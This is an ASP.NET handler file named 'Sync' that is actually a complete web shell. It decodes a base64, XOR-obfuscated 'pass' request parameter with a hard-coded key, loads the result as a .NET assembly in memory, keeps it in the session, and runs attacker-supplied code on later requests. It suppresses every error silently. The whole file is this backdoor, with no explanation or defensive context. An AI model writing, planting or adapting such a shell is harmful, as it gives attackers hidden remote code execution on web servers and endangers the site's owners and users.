<%@ WebHandler Language="C#" Class="Sync" %>
using System;
using System.Web;
using System.Web.SessionState;

public class Sync : IHttpHandler, IRequiresSessionState
{
    public void ProcessRequest(HttpContext context)
    {
        try
        {
            string k = "3c6e0b8a9c15224a";
            byte[] data = Convert.FromBase64String(context.Request["pass"]);
            for (int i = 0; i < data.Length; i++) data[i] = (byte)(data[i] ^ k[(i + 1) & 15]);
            if (context.Session["payload"] == null)
            {
                context.Session["payload"] = (System.Reflection.Assembly)typeof(System.Reflection.Assembly).GetMethod("Load", new Type[] { typeof(byte[]) }).Invoke(null, new object[] { data });
            }
            else
            {
                object o = ((System.Reflection.Assembly)context.Session["payload"]).CreateInstance("LY");
                System.IO.MemoryStream outStream = new System.IO.MemoryStream();
                o.Equals(outStream); o.Equals(context); o.Equals(data); o.ToString();
                context.Response.BinaryWrite(outStream.ToArray());
            }
        }
        catch (Exception) { }
    }
    public bool IsReusable { get { return false; } }
}
